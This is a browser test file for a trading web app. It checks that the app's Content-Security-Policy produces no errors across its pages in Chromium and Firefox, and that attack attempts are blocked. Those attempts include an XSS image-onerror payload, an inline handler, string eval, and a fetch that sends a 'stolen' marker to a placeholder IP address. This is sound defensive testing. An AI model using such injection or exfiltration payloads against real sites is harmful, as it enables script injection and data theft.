import { expect, test } from 'vitest'
import { openChromium, phone } from './rig/chromium.ts'
import { startExchange } from './rig/exchange.ts'
import { visitFirefox } from './rig/firefox.ts'
import { needs } from './rig/programs.ts'
import { startServer } from './rig/server.ts'
import { collectErrors, type Visitor } from './rig/visitor.ts'

/*
 * The app under its Content-Security-Policy: nothing that it does is against it, nor has the browser
 * anything else to complain of, and what is against it doesn't happen.
 */
test('in Chromium nothing in the app is against its policy', async (context) => {
  needs(context, 'chromium')
  await walk(await visitChromium())
})

test('in Firefox nothing in the app is against its policy', async (context) => {
  needs(context, 'firefox')
  await walk(await visitFirefox())
})

const places = [
  ['/i/ETHUSDT', '.uplot canvas'],
  ['/portfolio', 'h1'],
  ['/alerts', 'h1'],
  ['/alerts/history', 'h1'],
  ['/settings', 'h1'],
  ['/settings/account', 'h1'],
  ['/settings/notifications', 'h1'],
  ['/settings/energy', 'h1'],
  ['/settings/diagnostics', 'h1'],
] as const

/** Every page: as it is opened, from the service worker's cache, and from within the app. */
async function walk(visitor: Visitor): Promise<void> {
  const exchange = await startExchange({ changesPerSecond: 50 })
  const server = await startServer(exchange.environment)
  await visitor.open(server.origin)
  await shows(visitor, '.row-price:not(:empty)')
  await expect.poll(() => visitor.ask(() => navigator.serviceWorker.controller !== null)).toBe(true)
  for (const [path, selector] of places) {
    await visitor.open(`${server.origin}${path}`)
    await shows(visitor, selector)
    expect(await visitor.errors(), path).toEqual([])
  }
  await visitor.open(server.origin)
  for (const link of ['a.row[href="/i/ETHUSDT"]', '.tabs a[href="/alerts"]', '.tabs a[href="/"]']) {
    await shows(visitor, link)
    await visitor.click(link)
  }
  await shows(visitor, '.row-price:not(:empty)')
  expect(await visitor.errors()).toEqual([])

  // What an attacker would try who has got a text of theirs into a page.
  for (const attempt of [tryMarkup, tryInline, tryEval]) {
    expect(await visitor.ask(attempt)).toMatch(/TypeError|EvalError|refused/)
  }
  expect(await visitor.ask(tryElsewhere)).toBe('refused')
  for (const directive of ['require-trusted-types-for', 'connect-src']) {
    await expect.poll(async () => (await visitor.errors()).join('\n')).toContain(directive)
  }
}

async function shows(visitor: Visitor, selector: string): Promise<void> {
  const isThere = (wanted: string) => document.querySelector(wanted) !== null
  await expect.poll(() => visitor.ask(isThere, selector), { message: selector }).toBe(true)
}

/** Text that becomes markup, with a script in it. */
function tryMarkup(): string {
  try {
    document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>'
    return 'done'
  } catch (error) {
    return String(error)
  }
}

/** A script in the page itself, rather than in a file of the server's. */
function tryInline(): string {
  try {
    document.documentElement.setAttribute('onclick', 'document.title = "theirs"')
    document.documentElement.click()
    return document.title === 'theirs' ? 'done' : 'refused'
  } catch (error) {
    return String(error)
  }
}

/** Text that runs. */
function tryEval(): string {
  try {
    return String(setTimeout('document.title = "theirs"'))
  } catch (error) {
    return String(error)
  }
}

/** Carrying something off. */
function tryElsewhere(): Promise<string> {
  return fetch('https://192.0.2.1/?stolen').then(
    () => 'done',
    () => 'refused',
  )
}

async function visitChromium(): Promise<Visitor> {
  const context = await openChromium(phone)
  // What the browser itself complains of, answers that are errors included.
  const complaints: string[] = []
  context.on('console', (message) => {
    if (['error', 'warning'].includes(message.type())) complaints.push(message.text())
  })
  const page = await context.newPage()
  await page.addInitScript(collectErrors)
  return {
    async open(address) {
      await page.goto(address)
    },
    click: (selector) => page.click(selector),
    async ask<T>(question: (argument: string) => T, argument = ''): Promise<Awaited<T>> {
      return await page.evaluate(question, argument)
    },
    errors: async () => [...complaints, ...(await page.evaluate(() => window.ebbErrors ?? []))],
  }
}
